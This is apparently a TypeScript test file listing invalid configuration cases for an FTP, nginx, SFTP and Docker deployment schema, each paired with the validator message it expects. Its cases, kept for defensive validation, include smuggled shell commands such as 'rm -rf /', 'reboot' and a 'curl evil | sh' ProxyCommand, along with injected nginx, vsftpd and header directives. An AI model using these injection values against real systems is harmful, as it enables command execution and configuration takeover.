/**
 * The bad-config matrix: one wrong-type case for every field of the schema (generated from it),
 * and hand-written cases for what each field must refuse: ranges, privileged and colliding ports,
 * passive ranges, reserved and duplicate names, paths escaping the media, characters that would
 * break out of an nginx or vsftpd directive, secrets, CIDRs, image references, SSH hosts and
 * keys, and the rules between fields. Each hand-written case names the message the spec module
 * gives (spec/schema.ts, spec/rules.ts), never zod's own wording.
 */
import type { StackConfig } from "../support/project";
import { withValue } from "../support/stacks";
import { configFields, dottedAtFirst, messagePathAtFirst, type FieldKind } from "./configFields";
import { everyFieldConfig } from "./everyField";

/**
 * The refusal comes from zod itself (a missing field, an enum, an array bound, an unknown key):
 * the schema words no message of its own, so only the config path is ours to check.
 */
export const ZOD_WORDING = Symbol("zod's own wording");

export interface BadCase {
  /** The schema field the case is about, e.g. `ftp.users[].name`. */
  readonly field: string;
  /** "type": a value of the wrong JSON type; "value": the right type, a refused value. */
  readonly kind: "type" | "value";
  /** The config path the error message must name, e.g. `ftp.users[1].name`. */
  readonly at: string;
  /** Text of ours the message gives for that path; undefined for wrong types, whose wording is zod's. */
  readonly message?: string | typeof ZOD_WORDING;
  readonly title: string;
  readonly config: StackConfig;
}

/** `ftp.users.1.name` → `ftp.users[1].name` */
const messagePath = (dotted: string): string => dotted.replace(/\.(\d+)(?=\.|$)/g, "[$1]");
/** `ftp.users.1.name` → `ftp.users[].name` */
const fieldOf = (dotted: string): string => dotted.replace(/\.\d+(?=\.|$)/g, "[]");

const show = (value: unknown): string => {
  const text = JSON.stringify(value) ?? String(value);
  return text.length > 60 ? `${text.slice(0, 57)}…` : text;
};

/** A value of another JSON type than the field takes. */
const WRONG_TYPE: Record<FieldKind, unknown> = {
  string: 42,
  number: "21",
  boolean: "yes",
  enum: 1,
  array: "a,b",
  object: ["x"],
};

export function typeCases(base: StackConfig = everyFieldConfig()): BadCase[] {
  return configFields().map(({ path, kind }) => {
    const at = messagePathAtFirst(path);
    // Pulumi hands top-level keys to the program as strings: a number would arrive as "42".
    const value = kind === "string" && !path.includes(".") ? { x: 1 } : WRONG_TYPE[kind];
    const title = `${at} = ${show(value)} (wrong type for ${/^[aeiou]/.test(kind) ? "an" : "a"} ${kind} field)`;
    return { field: path, kind: "type", at, title, config: withValue(base, dottedAtFirst(path), value) };
  });
}

interface Row {
  /** Dotted paths and the values they get; undefined removes the key. */
  readonly set: Readonly<Record<string, unknown>>;
  readonly why: string;
  /** What the message says about `at`: a fragment of the spec module's text, or ZOD_WORDING. */
  readonly message: string | typeof ZOD_WORDING;
  /** The path the message names, when not the (first) path set. */
  readonly at?: string;
}

const row = (dotted: string, value: unknown, why: string, message: Row["message"], at?: string): Row => ({
  set: { [dotted]: value },
  why,
  message,
  at,
});

const IPV4 = "must be an IPv4 address";
const PORT_RANGE = "must be 1–65535";
const USER_NAME = "must match ^[a-z_][a-z0-9_-]{0,31}$";
const RELATIVE_PATH = "must be a relative path without '..', dotfiles or a leading '/'";
const URL_PREFIX = "must be a URL prefix like /videos/";
const CIDR = "must be an IP address or CIDR such as 203.0.113.0/24";
const SERVER_NAME = "must be a host name, *.domain or _";
const ORIGIN = "must be an origin such as https://player.example.com, or *";
const SECRET = "must be 16–256 characters from A-Z a-z 0-9 _ . ~ + / = -";
const DOCKER_HOST = "must be unix:///path/to/docker.sock or ssh://user@host[:port]";
const MEDIA_PATH = "must be a path without '..' or dotfile segments";
const HOST_KEY = "must be a public host key such as 'ssh-ed25519 AAAAC3…'";
/** An ssh-rsa key blob labelled as ed25519: the type must match the key. */
const RSA_BLOB_AS_ED25519 = `ssh-ed25519 ${Buffer.concat([Buffer.from([0, 0, 0, 7]), Buffer.from("ssh-rsa"), Buffer.alloc(24, 1)]).toString("base64")}`;

const ROWS: readonly Row[] = [
  // Ports: range, whole numbers, privileged passive ports, collisions.
  row("ftp.port", 0, "port 0", PORT_RANGE),
  row("ftp.port", 70000, "port above 65535", PORT_RANGE),
  row("ftp.port", 2121.5, "fractional port", "must be a whole number"),
  row(
    "ftp.port",
    30005,
    "control port inside the passive range",
    "30005 lies inside ftp.passivePorts 30000–30009",
  ),
  row("http.port", 0, "HTTP port 0", PORT_RANGE),
  row("http.port", 2121, "HTTP port equal to the FTP control port", "2121 is also ftp.port"),
  row(
    "http.port",
    30000,
    "HTTP port at the bottom of the passive range",
    "30000 lies inside ftp.passivePorts",
  ),
  row(
    "ftp.passivePorts.min",
    1023,
    "privileged passive port",
    "must be 1024–65535 (passive ports are never privileged)",
  ),
  row("ftp.passivePorts.max", 70000, "passive port above 65535", PORT_RANGE),
  row(
    "ftp.passivePorts.max",
    29999,
    "inverted passive range (empty)",
    "min (30000) must not be greater than max (29999)",
    "ftp.passivePorts",
  ),
  row("ftp.passivePorts", { min: 30000, max: 30100 }, "101 passive ports", "101 ports; at most 100"),
  row("ftp.passivePorts", { min: 30000 }, "passive range without max", ZOD_WORDING, "ftp.passivePorts.max"),
  // Addresses.
  row("ftp.bindAddress", "localhost", "host name as bind address", IPV4),
  row("ftp.bindAddress", "256.1.1.1", "octet above 255", IPV4),
  row("http.bindAddress", "127.0.0.1; rm -rf /", "shell after the address", IPV4),
  row(
    "ftp.passiveAddress",
    "ftp.example.com\npasv_enable=NO",
    "a second vsftpd directive after a newline",
    "must be an IPv4 address or a host name",
  ),
  row("ftp.passiveAddress", "", "empty passive address", "must be an IPv4 address or a host name"),
  {
    set: { "ftp.bindAddress": "0.0.0.0", "ftp.passiveAddress": undefined },
    why: "every address bound, no passive address",
    message: "required when ftp.bindAddress is 0.0.0.0",
    at: "ftp.passiveAddress",
  },
  // FTP users: names, reserved names, duplicates, passwords, roots.
  row("ftp.users", [], "no FTP user", "at least one FTP user is required"),
  row("ftp.users.0.name", "Editor", "upper-case user name", USER_NAME),
  row("ftp.users.0.name", "editor:x", "':' would add a field to the password file", USER_NAME),
  row("ftp.users.0.name", "editor\nroot", "newline would add a line to the password file", USER_NAME),
  row("ftp.users.0.name", "../etc", "path in a user name (names the per-user config file)", USER_NAME),
  row("ftp.users.1.name", "root", "reserved name root", "'root' is reserved"),
  row("ftp.users.1.name", "ftp", "reserved name ftp", "'ftp' is reserved"),
  row("ftp.users.1.name", "nginx", "reserved name nginx", "'nginx' is reserved"),
  row("ftp.users.1.name", "www-data", "reserved name www-data", "'www-data' is reserved"),
  row("ftp.users.2.name", "editor", "duplicate user name", "'editor' is already ftp.users[0].name"),
  row(
    "ftp.users.0.password",
    "",
    "empty password",
    "must be at least 8 characters (or leave it unset to generate one)",
  ),
  row("ftp.users.0.password", "seven-7", "7-character password", "must be at least 8 characters"),
  row(
    "ftp.users.0.password",
    "ü".repeat(37),
    "74-byte password (bcrypt reads 72)",
    "must be at most 72 bytes",
  ),
  row("ftp.users.0.password", "pass\nword-123", "newline in password", "must not contain line breaks or NUL"),
  row("ftp.users.1.root", "..", "root '..'", RELATIVE_PATH),
  row("ftp.users.1.root", "team-a/../..", "root climbing out through '..'", RELATIVE_PATH),
  row("ftp.users.1.root", "/etc", "absolute root", RELATIVE_PATH),
  row("ftp.users.1.root", "team-a\\..\\..", "backslashes in root", RELATIVE_PATH),
  row("ftp.users.1.root", "team-a -> /etc", "symlink-looking root", RELATIVE_PATH),
  row("ftp.users.1.root", ".ssh", "dotfile root", RELATIVE_PATH),
  row(
    "ftp.users.1.root",
    "team-a/videos",
    "root inside a writable location folder (vsftpd refuses the chroot)",
    "'team-a/videos' is inside the location directory 'team-a/videos'; vsftpd cannot chroot into a folder its user can write",
  ),
  row(
    "ftp.users.1.root",
    "team-b",
    "root holding no location folder",
    "no location directory lies inside 'team-b', so nothing there would be served",
  ),
  row("ftp.pasivePorts", { min: 30000, max: 30009 }, "a misspelt key", ZOD_WORDING, "ftp"),
  // FTPS and login limits.
  row("ftp.tls", "on", "unknown TLS mode", ZOD_WORDING),
  row(
    "ftp.tlsCertificate",
    "-----BEGIN CERTIFICATE-----\nQUJD\n-----END CERTIFICATE-----\nrsa_cert_file=/etc/shadow",
    "a directive after the PEM",
    "must be a PEM certificate (chain)",
  ),
  row(
    "ftp.tlsKey",
    "-----BEGIN CERTIFICATE-----\nQUJD\n-----END CERTIFICATE-----\n",
    "a certificate given as the key",
    "must be a PEM private key",
  ),
  row("ftp.tlsKey", undefined, "TLS enabled without a key", "required when ftp.tls is enabled"),
  row("ftp.maxLoginFails", 0, "no login attempt allowed", "must be 1–20"),
  row(
    "ftp.users.0.maxRate",
    "0",
    "a rate of nothing",
    "must be a rate in bytes per second such as 1m or 500k",
  ),
  row(
    "ftp.users.0.maxRate",
    "1g",
    "unit g for a rate",
    "must be a rate in bytes per second such as 1m or 500k",
  ),
  row("ftp.delayFailedLogin", -1, "negative delay", "must be 0–60"),
  row("ftp.delayFailedLogin", 61, "delay above a minute", "must be 0–60"),
  row("ftp.maxPerIp", 6, "more sessions per address than in all", "6 exceeds ftp.maxClients (5)"),
  row(
    "ftp.maxClients",
    6,
    "more sessions than half the passive range",
    "6 exceeds half of ftp.passivePorts (10 ports, so at most 5)",
  ),
  row(
    "ftp.passivePorts",
    { min: 30000, max: 30000 },
    "a single passive port",
    "one port (30000); at least 2",
  ),
  row("ftp.maxClients", 0, "no session allowed", "must be 1–10000"),
  row("ftp.banAfterFails", -1, "negative fail count", "must be 0–1000"),
  row("ftp.banAfterFails", 1.5, "fractional fail count", "must be a whole number"),
  row("ftp.banWindow", 0, "an empty window", "must be 1–86400"),
  row("ftp.banTime", 2_592_001, "a ban over 30 days", "must be 1–2592000"),
  row("ftp.memoryLimit", 32, "too little memory to run", "must be 0 (no limit) or 64–1048576 MiB"),
  row("http.memoryLimit", 1.5, "a fraction of a MiB", "must be a whole number of MiB"),
  row("http.banAfterFails", 1001, "a fail count above 1000", "must be 0–1000"),
  row("http.banWindow", 86_401, "a window over a day", "must be 1–86400"),
  row("http.banTime", 0, "a ban of no time", "must be 1–2592000"),
  row("ftp.maxClients", 10001, "above 10000 sessions", "must be 1–10000"),
  // HTTP: server name, locations.
  row(
    "http.serverName",
    "media.example.com; return 301 http://evil.example",
    "a second nginx directive",
    SERVER_NAME,
  ),
  row("http.serverName", "media.example.com\n}\nserver {", "a newline closing the server block", SERVER_NAME),
  row("http.serverName", "$host", "an nginx variable", SERVER_NAME),
  row("http.serverName", "~^(?<x>.+)$", "an nginx regex server name", SERVER_NAME),
  row("http.locations", [], "no location", "at least one location is required"),
  row("http.locations.0.path", "/videos/;", "';' in a location path", URL_PREFIX),
  row("http.locations.0.path", "/videos/{", "'{' in a location path", URL_PREFIX),
  row("http.locations.0.path", '/vid"eos/', "a double quote in a location path", URL_PREFIX),
  row("http.locations.0.path", "/$uri/", "'$' in a location path", URL_PREFIX),
  row("http.locations.0.path", "/my videos/", "a space in a location path", URL_PREFIX),
  row("http.locations.0.path", "/videos/\nlocation / {", "a newline in a location path", URL_PREFIX),
  row("http.locations.0.path", "~ ^/(.*)$", "a regex location", URL_PREFIX),
  row("http.locations.0.path", "/vid*eos/", "'*' in a location path", URL_PREFIX),
  row("http.locations.0.path", "/videos", "no trailing '/'", URL_PREFIX),
  row("http.locations.0.path", "/../", "'..' as a location path", URL_PREFIX),
  row(
    "http.locations.0.path",
    "/images/",
    "duplicate location path",
    "'/images/' is already http.locations[0].path",
    "http.locations[1].path",
  ),
  row("http.locations.0.directory", "../etc", "directory escaping the media", RELATIVE_PATH),
  row("http.locations.0.directory", "/etc", "absolute directory", RELATIVE_PATH),
  row("http.locations.0.directory", "videos; autoindex on", "a directive after the directory", RELATIVE_PATH),
  row(
    "http.locations.0.directory",
    "team-a",
    "directory holding another location's directory",
    "'team-a/videos' overlaps http.locations[0].directory 'team-a'",
    "http.locations[2].directory",
  ),
  row("http.locations.0.allow.0", "10.0.0.0/33", "IPv4 prefix above 32", CIDR),
  row("http.locations.0.allow.0", "all", "nginx's 'all' keyword", CIDR),
  row("http.locations.0.deny.0", "10.0.0.0/8; allow all", "a directive after the CIDR", CIDR),
  row("http.locations.0.corsOrigins.0", "https://player.example.com/embed", "origin with a path", ORIGIN),
  row("http.locations.0.corsOrigins.0", "ftp://player.example.com", "origin of another scheme", ORIGIN),
  row(
    "http.locations.0.corsOrigins.0",
    "https://player.example.com\r\nSet-Cookie: x=1",
    "a header after the origin",
    ORIGIN,
  ),
  row("http.locations.0.cacheSeconds", -1, "negative caching", "must be 0–31536000"),
  row("http.locations.0.cacheSeconds", 31_536_001, "more than a year of caching", "must be 0–31536000"),
  row("http.locations.0.limitRate", "0", "rate 0", "must be a rate in bytes per second such as 2m or 500k"),
  row(
    "http.locations.0.limitRate",
    undefined,
    "a burst size without a rate",
    "has no effect without http.locations[0].limitRate",
    "http.locations[0].limitRateAfter",
  ),
  row("http.locations.0.limitRateAfter", "10 m", "space in a size", "must be a size such as 10m"),
  row("http.locations.0.limitConnPerIp", 0, "no connection per address", "must be 1–10000"),
  row("http.users.0.name", "Viewer Name", "space in a basic-auth user name", USER_NAME),
  row("http.users.0.password", "", "empty basic-auth password", "must be at least 8 characters"),
  row("http.users.0.password", undefined, "basic-auth user without a password", ZOD_WORDING),
  row(
    "http.users",
    [
      { name: "viewer", password: "viewer-http-password" },
      { name: "viewer", password: "other-http-password" },
    ],
    "duplicate basic-auth user",
    "'viewer' is already http.users[0].name",
    "http.users[1].name",
  ),
  row(
    "http.users",
    [],
    "basic auth with no user",
    "needs at least one entry in http.users",
    "http.locations[0].basicAuth",
  ),
  row("http.secureLinkSecret", "too-short", "secret under 16 characters", SECRET),
  row("http.secureLinkSecret", 'secret-with-a-"quote"-inside', "a quote would end nginx's string", SECRET),
  row("http.secureLinkSecret", "secret-with-$uri-inside-it", "'$' would expand an nginx variable", SECRET),
  row(
    "http.secureLinkSecret",
    undefined,
    "secure links without a secret",
    "needs http.secureLinkSecret",
    "http.locations[2].secureLink",
  ),
  row(
    "http.gallery.path",
    "/gallery",
    "gallery path without trailing '/'",
    "must be / or a URL prefix like /gallery/",
  ),
  row(
    "http.gallery.path",
    "/videos/",
    "gallery on a location's path",
    "'/videos/' is also http.locations[0].path",
  ),
  row(
    "http.gallery.path",
    "/videos/all/",
    "gallery inside a location's path",
    "'/videos/all/' lies inside http.locations[0].path '/videos/'",
  ),
  {
    set: { "http.locations.0.autoindex": false, "http.locations.1.autoindex": false },
    why: "the gallery on, no listed location",
    message: "the gallery shows locations with autoindex on, and none has it",
    at: "http.gallery.enabled",
  },
  row("http.directio", "4g", "unit g", "must be off or a size such as 4m"),
  row("http.maxConnections", 100, "fewer than one page of viewers", "must be 256–131072"),
  row("http.maxConnections", 4096.5, "a fraction of a connection", "must be a whole number"),
  row("http.accessLog", "on", "not one of buffered, unbuffered, off", ZOD_WORDING),
  // HTTPS.
  row("http.tls", "on", "unknown HTTPS mode", ZOD_WORDING),
  row(
    "http.tlsCertificate",
    "-----BEGIN CERTIFICATE-----\nQUJD\n-----END CERTIFICATE-----\n}\nssl_certificate /etc/shadow;",
    "a directive after the PEM",
    "must be a PEM certificate (chain)",
  ),
  row("http.tlsKey", undefined, "HTTPS required without a key", "required when http.tls is required"),
  row("http.tlsCertificate", undefined, "HTTPS without a certificate", "required when http.tls is required"),
  row("http.httpsPort", 0, "port 0", PORT_RANGE),
  row("http.httpsPort", 8080, "HTTPS on the HTTP port", "8080 is also http.port"),
  row("http.httpsPort", 2121, "HTTPS on the FTP port", "2121 is also ftp.port"),
  row("http.httpsPort", 30005, "HTTPS inside the passive range", "30005 lies inside ftp.passivePorts"),
  row("http.hstsMaxAge", -1, "negative HSTS age", "must be 0–63072000"),
  row("http.hstsMaxAge", 63072001, "HSTS above two years", "must be 0–63072000"),
  {
    set: { "http.tls": "enabled" },
    why: "HSTS while plain HTTP is still served",
    message: "has no effect unless http.tls is required (it is enabled)",
    at: "http.hstsMaxAge",
  },
  // The media worker.
  row("http.locations.0.publish", "later", "unknown publish mode", ZOD_WORDING),
  {
    set: { "processing.enabled": false, "processing.webhooks": [], "images.worker": undefined },
    why: "verified publish without the worker",
    message: "verified needs the media worker, and processing.enabled is false",
    at: "http.locations[0].publish",
  },
  {
    set: { "processing.enabled": false, "http.locations.0.publish": "immediate", "images.worker": undefined },
    why: "webhooks without the worker",
    message: "needs the media worker, and processing.enabled is false",
    at: "processing.webhooks",
  },
  row("processing.rescanMinutes", 0, "no time between scans", "must be 1–1440"),
  row("processing.concurrency", 17, "more jobs than cores anyone has", "must be 1–16"),
  row("processing.maxFileSize", "-1g", "a negative size", "must be a size such as 20g or 500m"),
  row("processing.maxFileSize", "20t", "unit t", "must be a size such as 20g or 500m"),
  row("processing.posterWidth", 32, "a poster narrower than 64 px", "must be 64–3840"),
  row("processing.cpus", 0, "no CPU at all", "must be 0.1–64"),
  row("processing.cpus", 1.234, "three decimals", "must have at most two decimals"),
  row(
    "processing.cpus",
    0.05,
    "a value Docker reads back rounded",
    "reads back from Docker as another value",
  ),
  row("processing.memoryLimit", 16, "too little memory for ffmpeg", "must be 0 (no limit) or 64–1048576 MiB"),
  row("processing.webhookRetrySeconds", 10, "retries for ten seconds", "must be 60–604800"),
  row(
    "processing.webhooks.0.url",
    "ftp://hooks.example.com/",
    "not http",
    "must be an http:// or https:// URL",
  ),
  row(
    "processing.webhooks.0.url",
    "https://user:pass@hooks.example.com/",
    "credentials in the URL",
    "without user:password@",
  ),
  row("processing.webhooks.0.url", "https://hooks.example.com/#x", "a fragment", "or #fragment"),
  row(
    "processing.webhooks.0.url",
    "hooks.example.com/path",
    "no scheme",
    "must be an http:// or https:// URL",
  ),
  row("processing.webhooks.0.secret", "short", "a secret under 16 characters", "must be 16–256 characters"),
  row("processing.webhooks.0.events", [], "no event", "at least one event"),
  row("processing.webhooks.0.events.0", "file.uploaded", "an unknown event", ZOD_WORDING),
  {
    set: {
      "processing.webhooks": [
        { url: "https://hooks.example.com/a", secret: "hostile-webhook-secret-0" },
        { url: "https://hooks.example.com/a", secret: "hostile-webhook-secret-1" },
      ],
    },
    why: "the same webhook twice",
    message: "'https://hooks.example.com/a' is already processing.webhooks[0].url",
    at: "processing.webhooks[1].url",
  },
  row("images.worker", "worker image", "a space in the reference", "must be an image reference"),
  // SFTP.
  row("sftp.port", 2121, "SFTP on the FTP port", "2121 is also ftp.port"),
  row("sftp.port", 8080, "SFTP on the HTTP port", "8080 is also http.port"),
  row("sftp.port", 30003, "SFTP inside the passive range", "30003 lies inside ftp.passivePorts"),
  row(
    "sftp.hostKey",
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA",
    "a public key as the host key",
    "must be an OpenSSH or PKCS#8 private key",
  ),
  row("sftp.maxAuthTries", 0, "no authentication attempt", "must be 1–20"),
  row("sftp.loginGraceTime", 1, "a second to log in", "must be 5–600"),
  row("sftp.maxStartups", 0, "no unauthenticated connection", "must be 1–1000"),
  row("sftp.maxSessions", 101, "too many sessions per connection", "must be 1–100"),
  row("sftp.memoryLimit", 8, "too little memory for sshd", "must be 0 (no limit) or 64–1048576 MiB"),
  row(
    "ftp.users.0.sshKeys.0",
    "ssh-ed25519 AAAA",
    "a key too short to be one",
    "must be an OpenSSH public key line",
  ),
  row(
    "ftp.users.0.sshKeys.0",
    RSA_BLOB_AS_ED25519,
    "an RSA key labelled ssh-ed25519",
    "must be an OpenSSH public key line",
  ),
  row(
    "ftp.users.0.sshKeys.0",
    'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA\ncommand="sh" ssh-ed25519 AAAA',
    "a second key line with options",
    "must be an OpenSSH public key line",
  ),
  {
    set: { "sftp.enabled": false, "sftp.hostKey": undefined, "images.sftp": undefined },
    why: "keys without the SFTP server",
    message: "has no effect while sftp.enabled is false",
    at: "ftp.users[0].sshKeys",
  },
  row("images.sftp", "sftp:1.0;reboot", "a command after the reference", "must be an image reference"),
  // HLS ladders (on /videos/; /team-a/videos/ has signed links).
  row("http.locations.0.hls.segmentSeconds", 0, "segments of no length", "must be 1–10"),
  row("http.locations.0.hls.renditions", [], "a ladder without rungs", "at least one rendition"),
  row(
    "http.locations.0.hls.renditions",
    Array.from({ length: 7 }, (_, i) => ({
      height: 144 + 2 * i,
      videoBitrate: 100,
      maxRate: 100,
      audioBitrate: 64,
    })),
    "seven rungs",
    "at most 6 renditions",
  ),
  row(
    "http.locations.0.hls.renditions",
    [
      { height: 720, videoBitrate: 2800, maxRate: 3000, audioBitrate: 128 },
      { height: 360, videoBitrate: 800, maxRate: 900, audioBitrate: 96 },
    ],
    "heights descending",
    "heights must be ascending and different",
  ),
  row("http.locations.0.hls.renditions.0.height", 361, "an odd height", "must be even"),
  row("http.locations.0.hls.renditions.0.videoBitrate", 0, "no bit rate", "must be 50–60000"),
  row(
    "http.locations.0.hls.renditions.0.videoBitrate",
    90_000,
    "a bit rate past any use",
    "must be 50–60000",
  ),
  row(
    "http.locations.0.hls.renditions.0.maxRate",
    100,
    "maxRate under the bit rate",
    "maxRate must be at least videoBitrate",
  ),
  row("http.locations.0.hls.renditions.0.audioBitrate", -1, "negative audio", "must be 16–512"),
  {
    set: { "http.locations.2.hls": {} },
    why: "HLS on a signed-link location",
    message: "cannot be combined with secureLink",
    at: "http.locations[2].hls",
  },
  // Docker side: names, images, host, SSH, media path.
  row("name", "-video-server", "name starting with '-'", "must be a docker name prefix"),
  row("name", "video server", "space in the name", "must be a docker name prefix"),
  row("images.ftp", "Registry.example.com/vsftpd:1.0", "upper-case registry", "must be an image reference"),
  row(
    "images.ftp",
    "vsftpd:1.0 --privileged",
    "an argument after the reference",
    "must be an image reference",
  ),
  row("images.web", "nginx@sha256:1234", "short digest", "must be an image reference"),
  row("target.dockerHost", "tcp://10.0.0.1:2375", "unencrypted TCP engine", DOCKER_HOST),
  row("target.dockerHost", "ssh://media.example.com", "SSH host without a user", DOCKER_HOST),
  row("target.dockerHost", "ssh://deploy@", "SSH URL without a host", DOCKER_HOST),
  row(
    "target.dockerHost",
    "ssh://deploy@media.example.com:70000",
    "SSH port above 65535",
    "the ssh port must be 1–65535",
  ),
  row(
    "target.dockerHost",
    "ssh://deploy@media.example.com;reboot",
    "a shell command after the host",
    DOCKER_HOST,
  ),
  row(
    "target.sshOpts.1",
    "ProxyCommand=sh -c 'curl evil | sh'",
    "spaces and quotes in an ssh argument",
    "must be one ssh argument",
  ),
  row(
    "target.sshOpts",
    Array.from({ length: 33 }, () => "-4"),
    "33 ssh arguments",
    ZOD_WORDING,
  ),
  row("target.sshHostKey", "ssh-ed25519 AAAA", "a key too short to be one", HOST_KEY),
  row("target.sshHostKey", RSA_BLOB_AS_ED25519, "an RSA key labelled ssh-ed25519", HOST_KEY),
  row(
    "target.sshHostKey",
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA\nStrictHostKeyChecking=no",
    "an ssh option after the key",
    HOST_KEY,
  ),
  {
    set: { "target.dockerHost": "unix:///var/run/docker.sock" },
    why: "a host key for a local engine",
    message: "only used with an ssh:// target.dockerHost",
    at: "target.sshHostKey",
  },
  row("target.platform", "linux/386", "an architecture the images are not built for", ZOD_WORDING),
  row("target.mode", "kubernetes", "a mode the program does not deploy", ZOD_WORDING),
  {
    set: { "target.mode": "host" },
    why: "edge caches on one host",
    message: "only with target.mode swarm (it is host)",
    at: "edge",
  },
  {
    set: { "target.mode": "host", edge: undefined },
    why: "a registry on one host",
    message: "only with target.mode swarm (it is host)",
    at: "images.registry",
  },
  {
    set: { "images.registry": undefined, "images.web": undefined },
    why: "a built image on a swarm without a registry",
    message: "pushes the images it builds for every node to pull; set images.registry.server",
    at: "images.registry",
  },
  row(
    "images.registry.password",
    undefined,
    "a registry user without a password",
    "required with images.registry.username",
  ),
  row(
    "images.registry.username",
    undefined,
    "a registry password without a user",
    "required with images.registry.password",
  ),
  row(
    "images.registry.server",
    "https://registry.example.com",
    "a URL for a registry address",
    "must be a registry address",
  ),
  row(
    "images.registry.server",
    "Registry.example.com",
    "capitals, which image references refuse",
    "must be a registry address",
  ),
  row(
    "images.registry.password",
    "pass\nword",
    "a line break in the registry password",
    "must not contain line breaks",
  ),
  row(
    "ftp.bindAddress",
    "127.0.0.1",
    "one address on a swarm",
    "Swarm publishes a node's ports on all its addresses",
  ),
  row(
    "http.bindAddress",
    "10.0.0.1",
    "one address on a swarm",
    "Swarm publishes a node's ports on all its addresses",
  ),
  row("edge.replicas", 0, "no edge at all", "must be 1–1000"),
  row("edge.sliceSize", "16k", "slices that multiply origin requests", "must be 64k–64m"),
  row("edge.sliceSize", "1g", "slices larger than a seek needs", "must be 64k–64m"),
  row("edge.sliceSize", "1mb", "a unit nginx does not read", "digits and k, m or g"),
  row("edge.cacheSize", "10", "a cache size without a unit", "digits and k, m or g"),
  row(
    "edge.cacheSize",
    "10g; proxy_pass http://x",
    "a second directive in the cache size",
    "digits and k, m or g",
  ),
  row("edge.cacheInactive", "7 days", "words for a time", "a time such as 30m, 12h or 7d"),
  row("edge.cacheSize", "512k", "a cache smaller than one slice", "holds less than one slice"),
  row("edge.cacheSeconds", 0, "a cache that never serves", "must be 1–31536000"),
  row(
    "edge.subnet",
    "10.250.0.5/24",
    "an address inside the subnet, not the subnet",
    "must be the subnet's own address",
  ),
  row("edge.subnet", "10.0.0.0/8", "a subnet wider than /16", "with a /16–/28 prefix"),
  row("edge.subnet", "fd00::/64", "an IPv6 subnet", "must be an IPv4 subnet"),
  row("edge.memoryLimit", 32, "an edge too small to start", "must be 0 (no limit) or 64–1048576 MiB"),

  row("media.hostPath", undefined, "no media path", ZOD_WORDING),
  row("media.hostPath", "/srv/../etc", "'..' in the media path", MEDIA_PATH),
  row("media.hostPath", "/", "the filesystem root as media", MEDIA_PATH),
  row("media.hostPath", "/srv/media'; rm -rf '/", "a quote closing the shell word of mkdir", MEDIA_PATH),
  row("media.hostPath", "~/media", "home-directory shorthand", MEDIA_PATH),
  row(
    "media.hostPath",
    "media",
    "a relative media path on an ssh:// target",
    "must be absolute when target.dockerHost is an ssh:// host",
  ),
];

export function valueCases(base: StackConfig = everyFieldConfig()): BadCase[] {
  return ROWS.map(({ set, why, message, at: blamed }) => {
    const changes = Object.entries(set);
    const at = blamed ?? messagePath(changes[0][0]);
    const field = fieldOf(changes[0][0]);
    const shown = changes.map(([dotted, value]) => `${messagePath(dotted)} = ${show(value)}`).join(", ");
    const config = changes.reduce((c, [dotted, value]) => withValue(c, dotted, value), base);
    return { field, kind: "value", at, message, title: `${at}: ${why} (${shown})`, config };
  });
}

export function badCases(): BadCase[] {
  return [...typeCases(), ...valueCases()];
}
